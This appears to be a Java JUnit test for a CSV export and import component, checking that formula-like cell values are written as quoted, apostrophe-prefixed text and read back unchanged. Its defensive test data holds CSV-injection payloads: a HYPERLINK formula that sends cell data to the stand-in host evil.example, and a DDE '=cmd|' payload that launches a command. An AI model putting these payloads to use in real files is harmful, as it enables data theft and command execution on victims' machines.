package io.storedash.query.ingest;

import io.storedash.query.ingest.csv.CsvImportParser;
import io.storedash.query.ingest.csv.ParsedLine;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Imported text that a spreadsheet would run as a formula ("CSV injection") is stored as it is; an export writes it
 * as text (a leading apostrophe, quoted) so that opening the export in Excel runs nothing, and importing the export
 * gives back the same values.
 */
class ExportCsvTest {

  private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "+1+1",
    "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0");

  @Test
  void formulaLikeTextIsWrittenAsTextAndReadBackUnchanged() throws IOException {
    List<ProductRecord> products = new ArrayList<>();
    List<LineRecord> lines = new ArrayList<>();
    for (int i = 0; i < FORMULAS.size(); i++) {
      products.add(new ProductRecord("P" + i, FORMULAS.get(i), FORMULAS.get((i + 1) % FORMULAS.size())));
      lines.add(LineRecord.sold("P" + i, 1, 100, 100, 100, 50, 5, 0));
    }
    Dataset dataset = Dataset.of(List.of(new StoreRecord("S1", "=1+1 店", "", null)), products,
      List.of(new OrderRecord("-1001", null, "S1", "美团闪购", LocalDateTime.of(2026, 3, 1, 12, 0), null, null,
        OrderRecord.Fees.NONE, lines)));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ExportCsv.write(dataset, out, ExportCsv.Headers.EN, ExportCsv.Encoding.UTF_8);
    String csv = out.toString(StandardCharsets.UTF_8);

    // No cell of the export starts with a formula character: each such value is quoted text with an apostrophe.
    for (String line : csv.split("\r\n")) {
      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
        assertThat(cell).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
      }
    }
    assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\"", "\"'+1+1\"", "\"'-1001\"",
      "\"'=1+1 店\"");

    CsvImportParser parser = new CsvImportParser(1 << 20);
    parser.feed(out.toByteArray());
    parser.finish();
    assertThat(parser.rejections().first()).isEmpty();
    List<ParsedLine> parsed = parser.takeBatches().get(0);
    assertThat(parsed).extracting(ParsedLine::productName).containsExactlyElementsOf(FORMULAS);
    assertThat(parsed).extracting(ParsedLine::orderNo).containsOnly("-1001");
    assertThat(parsed).extracting(ParsedLine::storeName).containsOnly("=1+1 店");
    assertThat(parsed.get(0).category()).isEqualTo(FORMULAS.get(1));
  }

  @Test
  void aFileWithRawFormulasIsReadAsTextVerbatim() {
    String csv = "order_id,store_code,channel,ordered_at,product_name,category,quantity,unit_price,unit_cost\n"
      + "A1,S1,meituan,2026-03-01 12:00:00,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",@cat,1,1,1\n"
      + "A1,S1,meituan,2026-03-01 12:00:00,\"\t=1+1\",+cat,1,1,1\n"
      + "A1,S1,meituan,2026-03-01 12:00:00,'plain,'-cat,1,1,1\n";
    CsvImportParser parser = new CsvImportParser(1 << 20);
    parser.feed(csv.getBytes(StandardCharsets.UTF_8));
    parser.finish();
    assertThat(parser.rejections().first()).isEmpty();
    List<ParsedLine> parsed = parser.takeBatches().get(0);
    // Stored as text; surrounding white space is trimmed as for any cell; only the text mark '- is removed.
    assertThat(parsed).extracting(ParsedLine::productName).containsExactly("=HYPERLINK(\"http://x\",\"y\")", "=1+1", "'plain");
    assertThat(parsed).extracting(ParsedLine::category).containsExactly("@cat", "+cat", "-cat");
  }
}
